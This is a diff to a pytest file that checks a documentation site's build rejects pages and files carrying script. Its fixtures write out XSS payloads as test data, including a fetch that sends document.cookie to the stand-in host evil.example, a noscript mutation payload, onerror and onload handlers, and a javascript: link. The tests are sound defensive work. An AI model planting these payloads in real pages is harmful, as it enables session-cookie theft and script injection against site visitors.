@@ -1,5 +1,6 @@
-"""The build refuses inline script: the site's policy (script-src 'self', no hashes) would block it
-in the browser, so a page that carries one fails `mkdocs build --strict`, naming its file."""
+"""The build holds what contributors add to the content policy (guidekit.site.content_policy): a page
+with script of any kind, or a file under docs/ that a browser would run, fails `mkdocs build --strict`,
+naming its file; so does inline script a template puts into every page."""
 
 from __future__ import annotations
 
@@ -63,18 +64,50 @@ def test_a_page_without_inline_script_builds(tmp_path):
 @pytest.mark.parametrize(
     ("markdown", "named"),
     [
-        ("# Hola\n\nTexto.\n\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n", "inline <script>"),
+        (
+            "# Hola\n\nTexto.\n\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n",
+            "a <script> element",
+        ),
+        # The attack's high finding: a script file beside the page ran under script-src 'self'.
+        ('# Hola\n\nTexto.\n\n<script src="../evil.js"></script>\n', "a <script> element"),
         ('# Hola\n\n<img src="x.png" alt="" onerror="alert(1)">\n', "event handler onerror="),
+        pytest.param(
+            '# Hola\n\n<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>\n',
+            "event handler onerror=",
+            marks=pytest.mark.slow,
+        ),
+        pytest.param(
+            "# Hola\n\n![t](https://evil.example/t.gif)\n", "src= loading from another", marks=pytest.mark.slow
+        ),
         pytest.param("# Hola\n\n[pulsa](javascript:alert(1))\n", "javascript: URL", marks=pytest.mark.slow),
     ],
 )
-def test_inline_script_in_a_markdown_page_fails_the_build_naming_the_file(tmp_path, markdown, named):
+def test_script_in_a_markdown_page_fails_the_build_naming_the_file(tmp_path, markdown, named):
     result = _build(tmp_path, {"index.md": "# Inicio\n", "guia/hostil.md": markdown})
     log = result.stdout + result.stderr
-    assert result.returncode != 0
-    assert "docs/es/guia/hostil.md: the page's content has inline script" in log, log
-    assert named in log
+    assert result.returncode != 0 and "Traceback" not in log, log
+    assert "docs/es/guia/hostil.md: the page's content has what a page may not hold: " + named in log, log
     assert not (tmp_path / "site" / "guia" / "hostil" / "index.html").exists()
+
+
+def test_files_a_browser_would_run_are_refused_each_on_a_line(tmp_path):
+    """Findings 1 and 2: docs/ published any .js, .html and .svg; images and downloads still pass."""
+    svg = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1" onload="alert(1)"/></svg>'
+    plain_svg = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>'
+    files = {"evil.js": "alert(1)", "sub/evil.html": "<script>alert(1)</script>", "evil.svg": svg}
+    files |= {"chart.svg": plain_svg, "data.csv": "a,b\n", ".gitkeep": ""}
+    result = _build(tmp_path, {"index.md": "# Inicio\n", **files})
+    log = result.stdout + result.stderr
+    assert result.returncode != 0 and "Traceback" not in log, log
+    errors = [line.split("-  ", 1)[1] for line in result.stderr.splitlines() if line.startswith("ERROR")]
+    lines = [line for line in log.splitlines() if line.startswith(("docs/", "ERROR"))]
+    assert errors and errors[0].startswith("docs/es/"), log
+    shown = "\n".join(lines)
+    assert "docs/es/evil.js: a .js file, which a browser may run" in shown, log
+    assert "docs/es/sub/evil.html: a .html file" in shown, log
+    assert "docs/es/evil.svg: an SVG with an event handler onload= on <circle>" in shown, log
+    assert "chart.svg" not in shown and "data.csv" not in shown and ".gitkeep" not in shown
+    assert not (tmp_path / "site" / "index.html").exists()
 
 
 @pytest.mark.slow
@@ -91,6 +124,7 @@ def test_materials_own_inline_snippets_fail_the_build_naming_the_template(tmp_pa
     log = result.stdout + result.stderr
     assert result.returncode != 0
     assert "The theme's templates put into" in log and "inline <script> '__md_scope=" in log, log
+    assert "Traceback" not in log
 
 
 @pytest.mark.parametrize(
